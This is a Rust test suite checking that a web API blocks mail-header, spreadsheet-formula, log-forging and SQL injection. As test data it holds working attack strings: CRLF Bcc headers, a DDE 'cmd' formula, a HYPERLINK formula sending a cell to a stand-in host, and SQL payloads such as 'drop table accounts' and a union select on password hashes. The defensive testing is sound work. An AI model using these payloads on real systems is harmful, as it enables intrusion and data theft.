//! Text that is to become something else than text: a header of a mail, a formula, a line of the log, SQL, HTML.

use serde_json::json;
use tangguh::policy::Role::*;

use crate::{
    harness::*,
    invitations::into,
    logbook::Logbook,
    mails::listed,
    operations::{OPERATIONS, Things, required, signed_in},
    post_office::PostOffice,
    resets::{forgot, move_to},
    sign_ins::{log_in, with_password},
};

story! {
    async fn nobody_writes_headers_by_an_address(world) {
        let (world, office) = PostOffice::world(world.kind).await;
        for wrong in ["a@example.org\r\nBcc: b@example.org", "a@example.org\nSubject: Hadiah", "a@example.org, b@example.org", "a@example.org\u{0}"] {
            let refused = world.post(Nobody, "auth/password-reset-requests").json(json!({"email": wrong})).expect(422).await;
            assert_eq!(refused.pointers(), ["/email"], "{wrong:?}");
            let invitation = json!({"email": wrong});
            assert_eq!(world.post(Member(Admin), "invitations").json(invitation).expect(422).await.pointers(), ["/email"]);
        }
        assert!(office.deliver(&world).await.is_empty());
        assert!(listed(&world, "").await.is_empty());
    }
}

story! {
    async fn no_name_gets_into_the_head_of_a_mail(world) {
        let (world, office) = PostOffice::world(world.kind).await;
        with_password(&world, &Member(Lead));
        let hostile = "Budi\r\nBcc: mata-mata@example.org\r\n\r\n<a href=\"https://elsewhere.example\">Masuk</a>";
        let me = world.get(Member(Lead), "me").expect(200).await;
        world.patch(Member(Lead), "me").if_match(&me.etag()).patch(json!({"name": hostile})).send().await;
        world.post(Member(Admin), "accounts").json(json!({"email": "siti@example.org", "name": hostile})).send().await;
        forgot(&world, "lead@jakarta.example").expect(202).await;
        move_to(&world, Member(Lead), PASSWORD, "ketua@example.org").expect(202).await;
        world.post(Member(Lead), "invitations").json(into(&world, "rani@dinas.example", "observer")).expect(201).await;
        let ours = [
            "auto-submitted", "content-transfer-encoding", "content-type", "date", "from", "message-id", "mime-version", "subject", "to",
        ];
        let mails = office.deliver(&world).await;
        assert!(mails.len() >= 3, "{mails:?}");
        for mail in mails {
            let mut names: Vec<&str> = mail.headers.iter().map(|(name, _)| name.as_str()).collect();
            names.sort();
            names.retain(|name| *name != "mime-version" && *name != "content-transfer-encoding");
            assert!(names.iter().all(|name| ours.contains(name)), "{names:?}");
            names.dedup();
            assert_eq!((names.len(), mail.to.len()), (7, 1), "{mail:?}");
            let head = mail.headers.iter().map(|(_, value)| value.as_str()).collect::<String>();
            assert!(!head.contains("mata-mata") && !mail.to.concat().contains("mata-mata"), "{mail:?}");
            assert_eq!(mail.header("content-type"), Some("text/plain; charset=utf-8"), "nothing in it is HTML");
        }
    }
}

/// The cells of a table, as RFC 4180 has them.
fn cells(text: &str) -> Vec<String> {
    let (mut all, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => all.push(std::mem::take(&mut cell).trim_end_matches('\r').to_owned()),
            other => cell.push(other),
        }
    }
    all.push(cell);
    all
}

story! {
    async fn no_table_has_a_cell_that_a_spreadsheet_runs(world) {
        let formulas = ["=HYPERLINK(\"https://elsewhere.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "＝1+1"];
        let things = Things::make(&world, "jakarta", Member(Lead)).await;
        // In whatever a table may tell of: names of people and organisations, texts, reasons, references.
        for (number, formula) in formulas.iter().enumerate() {
            let name = json!([{"name": {"id": formula, "en": formula}}]);
            let organisation = json!({"names": name, "kind": "other"});
            world.post(Member(Lead), "stakeholders").json(organisation).expect(201).await;
            let area = json!({"names": name});
            let area = world.post(Member(Lead), "{p}/focus-areas").json(area).expect(201).await.id();
            let asked = json!({"focus_area_id": area, "text": {"id": formula, "en": formula}});
            let asked = world.post(Member(Lead), "{p}/questions").header("x-request-id", "@SUM(1)").json(asked).expect(201).await;
            let step = json!({"to": "proposed", "reason": formula});
            let path = format!("{{p}}/questions/{}/transitions", asked.id());
            world.post(Member(Lead), &path).if_match(&asked.etag()).json(step).expect(200).await;
            let sent = json!({"kind": "comment", "text": formula, "language": "id", "external_ref": format!("={number}"),
                "subjects": [{"kind": "question", "id": asked.id()}]});
            let sent = world.post(Member(Partner), "{p}/inputs").json(sent).expect(201).await;
            for (act, body) in [
                ("transitions", json!({"to": "acknowledged", "reason": formula})),
                ("decision", json!({"kind": "accepted", "text": {"id": formula}})),
                ("answer", json!({"text": {"id": formula}})),
            ] {
                let path = format!("{{p}}/inputs/{}", sent.id());
                let etag = world.get(Member(Lead), &path).expect(200).await.etag();
                world.post(Member(Lead), &format!("{path}/{act}")).if_match(&etag).json(body).send().await.expect(200);
            }
            let me = world.get(Member(Observer), "me").expect(200).await;
            world.patch(Member(Observer), "me").if_match(&me.etag()).patch(json!({"name": formula})).expect(200).await;
            let tables = OPERATIONS.iter().filter(|operation| operation.told["responses"]["200"]["content"].get("text/csv").is_some());
            let mut read = 0;
            for operation in tables.filter(|operation| operation.method == "GET") {
                for who in [operation.who_may(), Member(Admin), Member(Partner)] {
                    let table = things.ask(&world, who, operation).header("accept", "text/csv").send().await;
                    if !table.status.is_success() {
                        continue;
                    }
                    read += 1;
                    for cell in cells(&table.text) {
                        let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
                        assert!(!runs, "{} has the cell {cell:?}", operation.id);
                    }
                }
            }
            assert!(read >= 4, "only {read} tables were read");
        }
        let reviewed = world.get(Member(Admin), "access/review").header("accept", "text/csv").expect(200).await.text;
        assert!(reviewed.contains("'＝1+1"), "what was planted is not there, so nothing was shown: {reviewed}");
    }
}

story! {
    async fn nobody_writes_a_line_of_the_log(world) {
        let log = Logbook::open();
        let mark = uuid::Uuid::now_v7().simple().to_string();
        let forged = format!("%0d%0a192.0.2.9%20GET%20/forged-{mark}%20200%0a");
        for path in [format!("programs/{forged}"), format!("{forged}/questions"), format!("meta?{forged}={forged}"), format!("questions%20{forged}")] {
            world.get(Member(Lead), &path).header("user-agent", &format!("forged-{mark}")).send().await;
        }
        for id in [format!("x y-{mark}"), format!("{mark}\u{85}x")] {
            world.get(Member(Lead), "me").header("x-request-id", &id).send().await;
        }
        log_in(&world, &format!("{mark}@example.org"), &format!("password-{mark}")).send().await;
        let lines: Vec<String> = log.lines().into_iter().filter(|line| line.contains(&mark)).collect();
        assert!(lines.len() >= 3, "the access log tells of paths: {lines:?}");
        for line in lines {
            assert!(!line.contains(['\r', '\n', '\u{85}']), "{line:?}");
            let told = ["password-", "@example.org", "user-agent"].iter().any(|secret| line.contains(secret));
            assert!(!told, "it tells of more than the path: {line:?}");
        }
    }
}

story! {
    async fn text_for_the_database_stays_text(world) {
        let things = Things::make(&world, "jakarta", Member(Lead)).await;
        let heads = world.heads();
        let hostile = ["' or '1'='1", "'; drop table accounts; --", "\\'; select pg_sleep(9); --", "%", "_", "\"", "1) union select phc from account_passwords --", "$1", "?"];
        for operation in OPERATIONS.iter().filter(|operation| operation.method == "GET") {
            let who = signed_in(&world, &operation.who_may());
            let sane = things.ask(&world, who.clone(), operation).send().await;
            for text in hostile {
                let quoted: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
                for parameter in operation.parameters("path") {
                    let name = format!("{{{}}}", parameter["name"].as_str().unwrap());
                    let path = things.fill(&operation.path.replace(&name, &quoted.replace('+', "%20")));
                    let reply = world.get(who.clone(), &path).send().await;
                    assert!([400, 403, 404].contains(&reply.status.as_u16()), "{path}: {} {}", reply.status, reply.text);
                }
                for parameter in operation.parameters("query") {
                    let name = parameter["name"].as_str().unwrap();
                    let others = required(operation).iter().filter(|(other, _)| *other != name);
                    let others: String = others.map(|(name, value)| format!("&{name}={value}")).collect();
                    let path = format!("{}?{name}={quoted}{others}", things.fill(&operation.path));
                    let reply = world.get(who.clone(), &path).send().await;
                    assert!(!reply.status.is_server_error(), "{path}: {}", reply.text);
                    let more = reply.items().len() > sane.items().len();
                    assert!(!more, "{path} finds more than was there: {}", reply.text);
                }
            }
        }
        assert_eq!(world.heads(), heads);
    }
}
